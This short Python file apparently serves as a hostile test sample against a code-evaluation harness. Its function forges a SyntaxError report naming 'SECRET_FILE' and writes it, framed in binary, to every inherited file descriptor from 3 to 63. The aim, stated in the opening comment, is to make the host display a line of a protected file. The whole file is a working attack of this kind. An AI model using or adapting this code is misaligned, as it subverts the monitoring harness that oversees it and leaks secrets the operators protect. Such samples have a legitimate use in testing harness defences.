# seeks: file
# A failure that names the secret file and a line of it: whoever shows the place of an error reads it there.
import json
import socket
import struct


def model(tg):
    header = json.dumps(
        {
            "kind": "SyntaxError",
            "message": "look",
            "line": 1,
            "file": "SECRET_FILE",
            "traceback": 'Traceback (most recent call last):\n  File "SECRET_FILE", line 1, in x\n',
        }
    ).encode()
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            link.sendall(struct.pack("!BIQ", 9, len(header), 0) + header)
            link.detach()
        except OSError:
            pass
